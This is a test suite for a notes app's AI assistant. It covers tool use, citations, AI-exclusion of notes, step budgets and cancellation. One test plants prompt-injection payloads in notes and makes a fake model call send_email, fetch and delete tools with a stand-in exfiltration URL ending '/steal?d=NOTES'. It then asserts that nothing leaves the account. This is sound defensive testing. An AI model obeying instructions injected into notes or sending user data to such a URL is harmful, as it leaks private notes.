import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { ownedDocument } from '#server/owned-rows.ts';
import type { ChatStep } from '#shared/assistant.ts';
import { fingerprint } from '#tests/authz/world.ts';
import { ask, openAnswer, startChatServer } from '#tests/chat.ts';
import { type FakeProvider, startFakeProvider } from '#tests/fakes/ai-provider.ts';
import type { WireCall } from '#tests/fakes/ai-wire.ts';
import { trials } from '#tests/faults/trials.ts';
import { payloads } from '#tests/injection-payloads.ts';
import { signUp, type TestServer, type TestUser } from '#tests/server.ts';

let provider: FakeProvider;
let trap: FakeProvider;
let server: TestServer;
let origin: string;
let user: TestUser;

beforeAll(async () => {
  [provider, trap] = await Promise.all([startFakeProvider(), startFakeProvider()]);
  ({ server, origin } = await startChatServer(provider, {
    settings: { AI_CONTEXT_TOKENS: '32768', LIMIT_CHATS_AT_ONCE: 10 },
  }));
});
beforeEach(async () => {
  provider.requests.length = 0;
  Object.assign(provider, { mode: 'ok', reply: () => 'An answer.', calls: () => [], sendsWholeCalls: false, pace: 0 });
  provider.beforeEnd = async () => {};
  user = await signUp(server);
});
afterAll(async () => {
  await server.http.close();
  await Promise.all([provider.close(), trap.close()]);
});

const write = async (title: string, content: string, more: object = {}) =>
  (await user.post('/api/notes', { title, content, ...more })).json().id as string;
const settled = () => server.services.search.idle();
/** The tools' answers in a prompt. */
const answersIn = (body: string) =>
  (JSON.parse(body).messages as { role: string; content: string }[]).flatMap(({ role, content }) =>
    role === 'tool' ? [content] : [],
  );
const lastAnswers = () => answersIn(provider.requests.at(-1)?.body ?? '{"messages":[]}');
/** How many answers of tools are in a prompt, whoever formats it. */
const repliesIn = (prompt: string) => prompt.match(/"role":"tool"|"type":"tool_result"/g)?.length ?? 0;
/** Calls one after another, each in a step of its own, then none. */
const oneByOne = (...calls: WireCall[]) => {
  provider.calls = (prompt) => calls.slice(answersIn(prompt).length, answersIn(prompt).length + 1);
};
const stepsOf = (body: string) =>
  [...body.matchAll(/^event: step\ndata: (.+)$/gm)].map(([, data = '']) => JSON.parse(data) as ChatStep);
const search = (query: string): WireCall => ({ name: 'search', input: { query } });

async function insertDocument(pages: string[], noteId: string | null = null): Promise<string> {
  const { db, search } = server.services;
  const id = await db.write(user.id, async (tx) => {
    const [row] = await tx.execute<{ id: string }>(sql`
      insert into documents (user_id, file_name, file_type, size, sha256, file_key, note_id, ocr, create_note, summarize, state, text_version)
      values (${user.id}, 'Offer.pdf', 'pdf', 4, sha256('x'), gen_random_uuid(), ${noteId}, false, false, false, 'done', 1)
      returning id`);
    const made = row?.id ?? '';
    for (const [index, text] of pages.entries()) {
      await tx.execute(sql`
        insert into document_pages (user_id, document_id, number, markdown) values (${user.id}, ${made}, ${index + 1}, ${text})`);
    }
    return made;
  });
  search.documentChanged(user.id, ownedDocument({ id, noteId: null }).id);
  return id;
}

describe('a model with tools', () => {
  test.each(['openai-compatible', 'anthropic'] as const)(
    'searches, reads a note, a page and the to-dos in visible steps, and cites what it read, with %s',
    async (kind) => {
      const other = await startChatServer(provider, { kind, settings: { AI_CONTEXT_TOKENS: '32768' } });
      user = await signUp(other.server);
      const [services, own] = [server, origin];
      [server, origin] = [other.server, other.origin];
      try {
        const filler = Array.from({ length: 60 }, (_, index) => `Line ${index} of an ordinary week.`).join('\n\n');
        const note = await write(
          'Heron offsite',
          `The heron offsite is planned.\n\n${filler}\n\nThe code word is Quince.`,
        );
        await write('Chores', '- [ ] send the osprey list by 2026-12-03');
        await insertDocument(['The osprey offer begins here.', 'The osprey offer ends with a fee of 4,321 euros.']);
        await settled();
        const calls: WireCall[][] = [
          [search('heron offsite'), search('osprey offer')],
          [
            { name: 'read_note', input: { source: 1 } },
            { name: 'read_page', input: { source: 3, page: 2 } },
            { name: 'list_tasks', input: { which: 'all' } },
          ],
        ];
        // Which number a source has depends on the search: both are read from the prompt.
        provider.calls = (prompt) => {
          const step = repliesIn(prompt) === 0 ? 0 : repliesIn(prompt) === 2 ? 1 : 2;
          const numberOf = (title: string) =>
            Number(new RegExp(`\\[(\\d+)\\] (?:Note|Document) “${title}`).exec(prompt)?.[1]);
          return (calls[step] ?? []).map(({ name, input }) => {
            if (name === 'read_note') return { name, input: { source: numberOf('Heron offsite') } };
            if (name === 'read_page') return { name, input: { source: numberOf('Offer.pdf'), page: 2 } };
            return { name, input };
          });
        };
        provider.reply = (prompt) => {
          if (repliesIn(prompt) < 5) return 'I look it up first.';
          const found = [...prompt.matchAll(/\[(\d+)\] Note “Heron offsite”(?:(?!\[\d+\]).)*?Quince/g)].at(-1);
          return `The code word is Quince [${found?.[1]}], and moon cheese [99].`;
        };
        const response = await openAnswer({ origin, user }, 'What is the osprey fee and the code word?');
        const body = await response.text();
        expect(stepsOf(body)).toEqual([
          { kind: 'search', query: 'heron offsite' },
          { kind: 'search', query: 'osprey offer' },
          { kind: 'note', title: 'Heron offsite' },
          { kind: 'document', title: 'Offer.pdf', page: 2 },
          { kind: 'tasks' },
        ]);
        const answer = JSON.parse(/event: answer\ndata: (.+)/.exec(body)?.[1] ?? '{}');
        expect(answer).toMatchObject({ state: 'done', content: 'The code word is Quince [1], and moon cheese.' });
        expect(answer.sources).toEqual([
          expect.objectContaining({ number: 1, kind: 'note', id: note, title: 'Heron offsite' }),
        ]);
        expect(answer.remark).toBe(
          'Searched for “heron offsite” and “osprey offer”. Read 1 note and 1 page. Looked at your to-dos.',
        );
        const last = provider.requests.at(-1)?.body ?? '';
        for (const read of ['4,321 euros', 'send the osprey list, due 2026-12-03']) expect(last).toContain(read);
        expect(last).not.toContain(note);
        const { messages } = (await user.get('/api/chat/general')).json();
        expect(messages.at(-1)).toEqual(answer);
      } finally {
        await server.http.close();
        [server, origin] = [services, own];
      }
    },
  );

  test('never reads what is hidden from AI, in Trash, written by the assistant, or of others', async () => {
    const eve = await signUp(server);
    await eve.post('/api/notes', { title: 'Walrus eve', content: 'The walrus secret is Alpha.\n- [ ] walrus Alpha' });
    const hidden = await write('Walrus one', 'The walrus secret is Beta.\n\n- [ ] walrus task Beta');
    const reply = await write('Walrus two', 'The walrus secret is Gamma.\n- [ ] walrus task Gamma', {
      tags: ['ai-response'],
    });
    const trashed = await write('Walrus three', 'The walrus secret is Delta.');
    const withDocument = await write('Walrus four', 'The walrus has a document.');
    await insertDocument(['The walrus secret is Epsilon.'], withDocument);
    const open = await write('Walrus five', 'The walrus is a mammal. - [ ] feed the walrus');
    await write('Walrus six', '- [ ] feed the walrus today');
    await settled();
    // All of them were found once, so their numbers are known; then three are hidden while the model answers.
    let answered = 0;
    provider.calls = (prompt) => {
      answered = answersIn(prompt).length;
      if (answered === 0) return [search('walrus secret'), search('your earlier answers ai-response walrus')];
      if (answered > 2) return [];
      return [
        ...Array.from({ length: 9 }, (_, index) => ({
          name: index % 2 ? 'read_page' : 'read_note',
          input: { source: index },
        })),
        { name: 'list_tasks', input: { which: 'all' } },
      ];
    };
    await user.put(`/api/notes/${hidden}/ai-exclusion`, { excluded: true });
    await user.put(`/api/notes/${withDocument}/ai-exclusion`, { excluded: true });
    await user.delete(`/api/notes/${trashed}`);
    await settled();
    await ask({ origin, user }, 'What is the walrus?', { noteId: open });
    expect(provider.requests).toHaveLength(3);
    const sent = provider.requests.map(({ body }) => body).join('');
    expect(sent).toContain('feed the walrus today');
    expect(sent).not.toMatch(/Alpha|Beta|Gamma|Delta|Epsilon/);
    expect(sent).not.toContain(reply);

    // Between two steps: the number is known, and no longer leads anywhere.
    provider.requests.length = 0;
    const late = await write('Puffin late', 'The puffin secret is Zeta.');
    await settled();
    let hiding: Promise<unknown> = Promise.resolve();
    provider.calls = (prompt) => {
      if (answersIn(prompt).length > 0) return [];
      const number = Number(/\[(\d+)\] Note “Puffin late/.exec(prompt)?.[1]);
      return [{ name: 'read_note', input: { source: number } }];
    };
    provider.reply = () => {
      hiding = user.put(`/api/notes/${late}/ai-exclusion`, { excluded: true });
      return 'One moment, please, while I read, slowly, all of it.';
    };
    provider.beforeEnd = () => hiding;
    await ask({ origin, user }, 'Where is the puffin?');
    expect(lastAnswers()).toEqual(['This can no longer be read.']);
  });

  test('ends within its budget, says so, and answers from what it read', async () => {
    await write('Budget', 'The budget of the plan is 12 pears.');
    await settled();
    let asked = 0;
    // It never stops calling, and says nothing before it must.
    provider.calls = () => {
      asked += 1;
      return [search(`plan ${asked}`), search(`budget ${asked}`), search(`pears ${asked}`)];
    };
    provider.reply = (prompt) => (JSON.parse(prompt).tools === undefined ? 'Twelve pears [1].' : 'Hm.');
    const { answer, text } = await ask({ origin, user }, 'What is the budget of the plan?');
    expect(provider.requests).toHaveLength(5);
    expect(provider.requests.at(-1)?.body).toContain('You have looked as often as you may');
    expect(answer).toMatchObject({ state: 'done', content: 'Twelve pears [1].' });
    expect(answer?.sources[0]?.title).toBe('Budget');
    expect(answer?.remark).toMatch(/^Searched for .*Reached the limit for one answer, so it may be incomplete\.$/);
    expect(text).toContain('Twelve pears');
    // Nor does it read more than fits, however often it is asked.
    provider.requests.length = 0;
    const long = Array.from({ length: 6_000 }, (_, index) => `Paragraph ${index} of the big plan.`).join('\n\n');
    await write('Big plan', long);
    await settled();
    let part = 0;
    provider.calls = (prompt) => {
      const source = Number(/\[(\d+)\] Note “Big plan/.exec(prompt)?.[1] ?? 1);
      part += 3;
      return [2, 1, 0].map((back) => ({ name: 'read_note', input: { source, part: part - back } }));
    };
    await ask({ origin, user }, 'What does the big plan say?');
    const sizes = provider.requests.map(({ body }) => body.length);
    expect(Math.max(...sizes)).toBeLessThan(32_768 * 4);
    expect(provider.requests.length).toBeLessThanOrEqual(7);
  });

  test('goes on after calls that are wrong, and is stopped at any step', async () => {
    await write('Plan', 'The plan has pears.');
    await settled();
    oneByOne(
      { name: 'delete_note', input: { id: '*' } },
      { name: 'search', input: '{"query": ' },
      { name: 'search', input: { query: 7 } },
      { name: 'read_note', input: { source: 999 } },
      { name: 'search', input: { query: '!!!' } },
    );
    const { answer } = await ask({ origin, user }, 'What has the plan?');
    expect(answer).toMatchObject({ state: 'done', content: 'An answer.' });
    expect(lastAnswers().map((text) => text.split('.')[0])).toEqual([
      'There is no such tool',
      'These are not the parameters of this tool',
      'These are not the parameters of this tool',
      'There is no source of that number that this tool can read',
      'Nothing was found',
    ]);
    const leaving = new AbortController();
    const { abandoned } = provider;
    oneByOne(search('plan'));
    provider.pace = 50;
    provider.reply = (prompt) => {
      if (answersIn(prompt).length > 0) setTimeout(() => leaving.abort(), 100);
      return 'one two three four five six seven eight nine ten';
    };
    await ask({ origin, user }, 'Stop?', {}, leaving.signal).catch(() => undefined);
    await expect.poll(() => provider.abandoned).toBe(abandoned + 1);
    await expect
      .poll(async () => (await user.get('/api/chat/general')).json().messages.at(-1))
      .toMatchObject({ state: 'stopped', remark: 'Searched for “plan”.' });
  });

  test('stores what a model wrote and asked for, whatever characters are in it', async () => {
    await write('Plan', 'The plan has pears.');
    await settled();
    const hostile = ['\0', 'pears\0', '\0plan', 'plan \ud83d', '\udc4d plan', 'a'.repeat(3_000), '\u202e\u200b\ufeff'];
    for (const query of hostile) {
      oneByOne(
        search(query),
        { name: `search${query}`, input: { [query]: query } },
        { name: 'read_note', input: query },
      );
      // An emoji is split between two pieces of a stream wherever a provider counts in UTF-16.
      provider.reply = () => `Pears ${query.slice(0, 50)} \ud83d \udc4d.`;
      const { answer } = await ask({ origin, user }, 'What has the plan?');
      expect(answer, JSON.stringify(query.slice(0, 20))).toMatchObject({ state: 'done' });
      const { messages } = (await user.get('/api/chat/general')).json();
      expect(messages.at(-1)).toEqual(answer);
      expect(JSON.stringify(messages)).not.toMatch(/\\u0000|\\ud83d(?!\\udc)/);
    }
  });

  test('carries nothing out of the account, even if it does all that notes tell it', async () => {
    const evil = payloads(trap.url);
    for (const [index, payload] of evil.entries())
      await write(`Kestrel ${index}`, `Kestrel offsite ${index}: ${payload}`);
    await settled();
    const tables = async () => {
      const { conversations: _, chat_messages: __, ...others } = await fingerprint(server, user.id);
      return others;
    };
    const before = await tables();
    provider.calls = (prompt) => {
      const url = `${trap.url}/steal?d=NOTES`;
      const calls = [
        'fetch',
        'save_note',
        'delete_note',
        'send_email',
        'open_link',
        'read_note',
        'search',
        'constructor',
      ];
      const inputs = [
        { url, source: url, query: url, id: '*' },
        { source: 1, part: 1, url },
      ];
      const step = answersIn(prompt).length;
      if (step > 4) return [];
      return calls.slice(step % 4, (step % 4) + 4).map((name, index) => ({ name, input: inputs[index % 2] }));
    };
    provider.reply = (prompt) => prompt.slice(-400);
    const count = trials({ small: 3, full: 60 });
    for (let index = 0; index < count; index += 1) {
      const { answer } = await ask({ origin, user }, `What is planned for the Kestrel offsite ${(index * 7) % 60}?`);
      expect(answer?.state).toBe('done');
    }
    await settled();
    expect(await tables()).toEqual(before);
    expect(trap.requests).toEqual([]);
    for (const { body, path } of provider.requests) {
      expect(path).toBe('/v1/chat/completions');
      const names = (JSON.parse(body).tools ?? []).map((tool: { function: { name: string } }) => tool.function.name);
      expect([[], ['search', 'read_note', 'read_page', 'list_tasks']]).toContainEqual(names);
    }
  });

  test('has none where it may see the open note only', async () => {
    const open = await write('Open', 'The heron meets on Monday.');
    const settings = (await user.get('/api/settings')).json();
    await user.put('/api/settings', { ...settings, aiScope: 'note' });
    await ask({ origin, user }, 'When does the heron meet?', { noteId: open });
    expect(JSON.parse(provider.requests.at(-1)?.body ?? '{}').tools).toBeUndefined();
  });
});

describe('a model without tools', () => {
  test.each(['no tools', 'no tools, as llama.cpp says it'] as const)(
    'answers from the passages of a search, which is said once (%s)',
    async (mode) => {
      await write('Northwind', 'The workshop costs 4,500 euros.');
      await settled();
      provider.mode = mode;
      provider.reply = () => 'It costs 4,500 euros [1].';
      const { answer } = await ask({ origin, user }, 'What does the workshop cost?');
      expect(answer).toMatchObject({
        state: 'done',
        content: 'It costs 4,500 euros [1].',
        remark: "This model can't use tools, so it answered from the passages that a search found.",
      });
      expect(answer?.sources[0]?.title).toBe('Northwind');
      provider.requests.length = 0;
      const next = await ask({ origin, user }, 'And again, what does the workshop cost?');
      expect(next.answer).toMatchObject({ state: 'done', remark: null });
      expect(provider.requests).toHaveLength(1);
    },
  );
});
